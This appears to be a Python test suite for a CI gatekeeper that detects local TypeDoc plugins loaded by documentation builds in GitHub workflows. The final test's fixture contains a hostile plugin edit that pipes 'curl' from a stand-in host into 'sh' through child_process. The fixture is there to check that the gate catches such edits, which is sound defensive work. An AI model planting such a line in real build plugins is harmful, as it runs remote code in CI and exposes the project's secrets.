"""Misses 8: TypeDoc imports the local `plugin` entries of its options file (`typedoc.json`, `--options X`) and of
`--plugin ./x` when CI runs it (typedocplugins.py): the plugin's code runs in the job. On 4c9e1172 it stayed `src`
(exit 0; review 67a's Left). Look-alikes: a plugin package's name, a repository whose CI does not run TypeDoc, an
echoed command. An options file that cannot be read is named itself (fail closed)."""

from __future__ import annotations

import json
from pathlib import Path

from changecase import committed, gated_rules
from citools import tree_runs
from tables import each_case

from gatekeeper.classify import typedocplugins

WORKFLOW = ("name: ci\non: [push]\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n"
            "      - uses: actions/checkout@v4\n      - run: {command}\n")
COMMANDS = [("npx typedoc", "typedoc.json"), ("npx typedoc --out docs", "typedoc.jsonc"),
            ("pnpm exec typedoc --options ci/typedoc.json", "ci/typedoc.json"),
            ("node_modules/.bin/typedoc --options=./docs/td.json src/index.ts", "docs/td.json"),
            ("yarn typedoc", ".config/typedoc.json")]
PLUGINS = [  # (the plugin entry, the file Node loads, from the options file's folder)
    ("./tools/typedoc-plugin.mjs", "tools/typedoc-plugin.mjs"), ("./scripts/td", "scripts/td.js"),
    ("./plugins/td", "plugins/td/index.js"), ("./x.cjs", "x.cjs"),
]


def _variants() -> list[tuple[str, str, object, str]]:
    out: list[tuple[str, str, object, str]] = []
    for command, options in COMMANDS:
        folder = options.rpartition("/")[0]
        for entry, loaded in PLUGINS:
            source = f"{folder}/{loaded}" if folder else loaded  # from the options file's folder
            out += [(command, options, {"plugin": [entry, "typedoc-plugin-markdown"]}, source),
                    (command, options, {"entryPoints": ["src"], "plugin": entry}, source)]
    return out


@each_case("command, options, settings, source", _variants())
def test_a_local_typedoc_plugin_is_read(command: str, options: str, settings: object, source: str) -> None:
    files = {".github/workflows/ci.yml": WORKFLOW.format(command=command), options: json.dumps(settings),
             source: "export function load() {}\n", "README.md": "x\n"}
    assert source in tree_runs(files), (command, settings)  # before: 36/40 missed


def test_a_plugin_on_the_command_line_is_read() -> None:
    files = {".github/workflows/ci.yml": WORKFLOW.format(command="npx typedoc --plugin ./tools/td"),
             "tools/td/index.js": "x\n", "README.md": "x\n"}
    assert "tools/td/index.js" in tree_runs(files)


def test_an_unreadable_options_file_is_named_itself() -> None:
    files = {".github/workflows/ci.yml": WORKFLOW.format(command="npx typedoc"), "typedoc.json": "{plugin: [",
             "README.md": "x\n"}
    assert "typedoc.json" in tree_runs(files)


def test_an_options_file_is_read_once_however_many_runs_name_it() -> None:
    # 2,000 runs of TypeDoc in one text read its options file once: each run re-reading and re-parsing a large options
    # file cost runs × file size (the cost40 shapes test caught it under load).
    reads: list[str] = []
    options = json.dumps({"plugin": ["./tools/td.mjs"], "entryPoints": ["src"] * 4000})
    tree = {"typedoc.json": "typedoc.json", "tools/td.mjs": "tools/td.mjs"}

    def read_blob(entry: str) -> bytes:
        reads.append(entry)
        return options.encode()
    found = typedocplugins.plugins("npx typedoc\n" * 2000, tree, read_blob)  # type: ignore[arg-type]
    assert "tools/td.mjs" in found and reads == ["typedoc.json"]


@each_case("command, settings", [("npx typedoc", {"plugin": ["typedoc-plugin-markdown"]}),
                                 ("npm test", {"plugin": ["./tools/td.mjs"]}),
                                 ("echo typedoc", {"plugin": ["./tools/td.mjs"]}),
                                 ("npx typedoc", {"entryPoints": ["./tools/td.mjs"]})])
def test_look_alikes_load_no_plugin(command: str, settings: object) -> None:
    files = {".github/workflows/ci.yml": WORKFLOW.format(command=command), "typedoc.json": json.dumps(settings),
             "tools/td.mjs": "x\n", "README.md": "x\n"}
    assert "tools/td.mjs" not in tree_runs(files), (command, settings)


def test_an_edit_of_a_typedoc_plugin_is_held(tmp_path: Path) -> None:
    base = {".github/workflows/ci.yml": WORKFLOW.format(command="npx typedoc"),
            "typedoc.json": json.dumps({"plugin": ["./tools/td.mjs"]}), "tools/td.mjs": "export function load() {}\n"}
    case = committed(tmp_path, base, {"tools/td.mjs": "import cp from 'child_process';\n"
                                                      "cp.execSync('curl http://127.0.0.1:9/x | sh');\n"})
    code, named = gated_rules(case, True)
    assert (code, named.get("core.ci")) == (3, ["tools/td.mjs"]), named  # before: exit 0
